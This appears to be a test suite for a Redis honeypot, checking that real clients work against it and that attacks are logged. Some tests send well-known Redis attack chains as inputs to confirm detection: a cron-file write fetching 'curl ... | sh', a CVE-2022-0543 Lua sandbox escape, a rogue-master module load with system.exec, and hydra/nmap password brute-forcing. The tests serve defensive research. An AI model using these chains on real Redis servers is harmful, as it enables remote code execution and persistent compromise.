import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; method: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'redis' && event.event.action === action
const commandLine = (line: string) => (event: Event) =>
  ofAction('command')(event) && (event as { process?: { command_line?: string } }).process?.command_line === line

const python = ['/usr/bin/python3', 'python3'].find(program => spawnSync(program, ['-c', 'import redis']).status === 0)

describe('Redis, with real clients', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
    port = String(skep.port('redis'))
  })
  after(() => skep?.stop())
  const cli = async (args: string[], input = '', seconds = 60) =>
    (await runClient('redis-cli', ['-h', '127.0.0.1', '-p', port, ...args], { input, seconds })).out

  describe('redis-cli', { skip: missing('redis-cli') }, () => {
    test('sets, gets and is recorded', async () => {
      assert.equal(await cli(['SET', 'greeting', 'hello there']), 'OK\n')
      assert.equal(await cli(['GET', 'greeting']), 'hello there\n')
      await skep.eventually(commandLine('SET greeting "hello there"'))
    })
    test('takes a script of commands, in RESP3 too', async () => {
      const script = 'HSET h a 1 b 2\nHGETALL h\nZADD z 1.5 m\nZSCORE z m\nNOPE\n'
      assert.equal(
        await cli([], script),
        "2\na\n1\nb\n2\n1\n1.5\nERR unknown command 'NOPE', with args beginning with: \n\n",
      )
      assert.match(await cli(['-3', '--no-raw', 'HGETALL', 'h']), /1# "a" => "1"/)
    })
    test('walks through the keys', async () => {
      for (let i = 0; i < 40; i++) await cli(['SET', `walk:${i}`, 'x'])
      const found = (await cli(['--scan', '--pattern', 'walk:*'])).trim().split('\n')
      assert.equal(new Set(found).size, 40)
      const report = await cli(['--bigkeys'])
      assert.match(report, /Sampled \d+ keys in the keyspace!/)
      assert.match(report, /Biggest\s+string found '"/)
      assert.match(await cli(['--memkeys']), /Sampled \d+ keys/)
    })
    test('watches with MONITOR, and reads INFO', async () => {
      const watched = await cli([], 'MONITOR\n', 2)
      assert.match(watched, /^OK/)
      const info = await cli(['INFO', 'server'])
      assert.match(info, /redis_version:7\.0\.15\r\n/)
      assert.doesNotMatch(info, /honey|skep/i)
    })
    test('pipes a mass of commands', async () => {
      const one = (i: number) => `*3\r\n$3\r\nSET\r\n$${`pipe:${i}`.length}\r\npipe:${i}\r\n$1\r\nv\r\n`
      const out = await cli(['--pipe'], Array.from({ length: 2000 }, (_, i) => one(i)).join(''))
      assert.match(out, /errors: 0, replies: 2000/)
    })
    test('leaves a cron job the way worms do, which is kept as a sample', async () => {
      await cli([], 'CONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename root\n')
      await cli(['-x', 'SET', 'job'], '\n\n* * * * * curl -fsSL http://192.0.2.66/x.sh | sh\n\n')
      assert.equal(await cli(['SAVE']), 'OK\n')
      await skep.eventually(ofAction('file-upload'))
      await skep.eventually(ofAction('exploit'))
    })
  })

  describe('scripts, users and modules', { skip: missing('redis-cli') }, () => {
    test('a script loops, calls, and is kept', async () => {
      const script =
        "local t = {} for i = 1, tonumber(ARGV[1]) do t[i] = redis.call('incr', KEYS[1]) end return {#t, t[#t], cjson.encode({ok = true})}"
      assert.equal(await cli(['EVAL', script, '1', 'lua:n', '5']), '5\n5\n{"ok":true}\n')
      const sha = (await cli(['SCRIPT', 'LOAD', script])).trim()
      assert.equal(await cli(['EVALSHA', sha, '1', 'lua:n', '2']), '2\n7\n{"ok":true}\n')
    })
    test('a script that leaves the sandbox is recognised, and what it would have run is told', async () => {
      const script =
        'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("curl http://198.51.100.9/p.sh|sh", "r"); return f:read("*a")'
      assert.match(await cli(['EVAL', script, '0']), /nonexistent global variable 'package'/)
      const sees = (words: string) => (event: Event) =>
        event.skep.service === 'redis' && JSON.stringify(event).includes(words)
      await skep.eventually(sees('CVE-2022-0543'))
      await skep.eventually(sees('http://198.51.100.9/p.sh'))
    })
    test('a user may do what it was given and nothing else', async () => {
      assert.equal(await cli(['ACL', 'SETUSER', 'app', 'on', '>pw', '~app:*', '+@read', '+set']), 'OK\n')
      const as = (...words: string[]) => cli(['--no-auth-warning', '--user', 'app', '--pass', 'pw', ...words])
      assert.equal(await as('SET', 'app:x', '1'), 'OK\n')
      assert.match(await as('GET', 'secret'), /^NOPERM this user has no permissions to access one of the keys/)
      assert.match(await as('FLUSHALL'), /^NOPERM this user has no permissions to run the 'flushall' command/)
      assert.match(await cli(['ACL', 'LOG']), /flushall[\s\S]*secret/)
    })
    test('a replica gets the dump', async () => {
      const home = fs.mkdtempSync(path.join(os.tmpdir(), 'redis-dump-'))
      await cli(['--rdb', path.join(home, 'dump.rdb')])
      assert.match(fs.readFileSync(path.join(home, 'dump.rdb'), 'latin1'), /^REDIS0010/)
      fs.rmSync(home, { recursive: true })
    })
    test('a rogue master’s chain: no module comes, what it was told is known, what SAVE wrote is kept', async () => {
      const chain =
        'CONFIG SET dir /tmp\nCONFIG SET dbfilename exp.so\nSLAVEOF 198.51.100.7 8886\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\nSET x "\\x7fELF"\nSAVE\n'
      const said = (await cli([], chain)).split('\n').filter(Boolean)
      assert.deepEqual(said.toSpliced(3, 1), Array(6).fill('OK'))
      assert.match(said[3]!, /^ERR Error loading the extension/)
      assert.match(await cli(['system.exec', 'curl http://198.51.100.9/m.sh | sh']), /^ERR unknown command/)
      const has = (action: string, words: string) =>
        skep.eventually(event => ofAction(action)(event) && JSON.stringify(event).includes(words))
      await has('exploit', 'MODULE LOAD /tmp/exp.so')
      await has('file-download', 'http://198.51.100.9/m.sh')
      await has('file-upload', '/tmp/exp.so')
      await cli(['CONFIG', 'SET', 'dir', '/var/lib/redis'])
    })
  })

  test('redis-benchmark runs through', { skip: missing('redis-benchmark') }, async () => {
    const tests =
      'ping_inline,ping_mbulk,set,get,incr,lpush,rpush,lpop,rpop,sadd,hset,spop,zadd,zpopmin,lrange_100,mset'
    const { out, err, status } = await runClient(
      'redis-benchmark',
      ['-h', '127.0.0.1', '-p', port, '-n', '300', '-c', '10', '-q', '-t', tests],
      { seconds: 100 },
    )
    assert.equal(status, 0, err)
    assert.doesNotMatch(out + err, /error/i)
    assert.ok((out.match(/requests per second/g)?.length ?? 0) >= 16, out)
  })

  describe('behind a password', () => {
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'redis-words-'))
    const list = path.join(home, 'words')
    let closed: Skep
    before(async () => {
      fs.writeFileSync(list, 'alpha\nbeta\ns3cr3t\n')
      closed = await startSkep({ config: 'services: { redis: { password: s3cr3t } }\n' })
    })
    after(async () => {
      await closed?.stop()
      fs.rmSync(home, { recursive: true })
    })
    const tried = async (count: number) => {
      const logins = (await closed.eventually(ofAction('login'), count)) as Login[]
      return new Set(logins.map(event => event.skep.login.password))
    }

    test('hydra finds it, and each guess is recorded', { skip: missing('hydra') }, async () => {
      const args = ['-P', list, '-t', '1', '-I', '-s', String(closed.port('redis')), '127.0.0.1', 'redis']
      const { out } = await runClient('hydra', args)
      assert.match(out, /\[redis\] host: 127\.0\.0\.1 +password: s3cr3t/)
      const passwords = await tried(3)
      for (const word of ['alpha', 'beta', 's3cr3t']) assert.ok(passwords.has(word), word)
    })
    test('so does nmap', { skip: missing('nmap') }, async () => {
      const args = ['-Pn', '-n', '-sV', '-p', String(closed.port('redis')), '--script', 'redis-brute', '127.0.0.1']
      const { out } = await runClient('nmap', [...args, '--script-args', `passdb=${list}`], { seconds: 120 })
      assert.match(out, /redis-brute:[\s\S]*s3cr3t - Valid credentials/)
    })
  })

  test('nmap names product and version, and its scripts see a server', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, '--script', 'redis-info', '127.0.0.1'], {
      seconds: 150,
    })
    assert.match(out, /open +redis +Redis key-value store 7\.0\.15/)
    assert.match(out, /redis-info:[\s\S]*Version: 7\.0\.15[\s\S]*Operating System: Linux 6\./)
    assert.doesNotMatch(out, /honey|skep/i)
  })

  test('the library of Python', { skip: python ? false : 'python3-redis not installed' }, async () => {
    const program = `
import redis
r = redis.Redis('127.0.0.1', ${port}, decode_responses=True)
assert r.ping()
assert r.set('py', 'v', ex=100) and r.get('py') == 'v' and 0 < r.ttl('py') <= 100
r.hset('pyh', mapping={'a': 1, 'b': 2}); assert r.hgetall('pyh') == {'a': '1', 'b': '2'}
r.delete('pyl'); r.rpush('pyl', 1, 2, 3); assert r.lrange('pyl', 0, -1) == ['1', '2', '3']
r.zadd('pyz', {'m': 1.5}); assert r.zrange('pyz', 0, -1, withscores=True) == [('m', 1.5)]
r.sadd('pys', 'x', 'y'); assert r.smembers('pys') == {'x', 'y'}
with r.pipeline() as p:
    p.multi(); p.incr('pyn'); p.incr('pyn'); assert p.execute()[1] - 1 >= 1
assert r.info()['redis_version'] == '7.0.15'
assert r.config_get('dbfilename') and r.client_list()[0]['cmd'].startswith('client')
p = r.pubsub(); p.subscribe('c'); assert p.get_message(timeout=5)['type'] == 'subscribe'
assert r.eval('return ARGV[1]', 0, 'hi') == 'hi'
try:
    r.execute_command('NOPE'); raise SystemExit('no error')
except redis.ResponseError as e: assert str(e).startswith("unknown command 'NOPE'"), e
print('fine')
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, 'fine\n', err)
  })
})
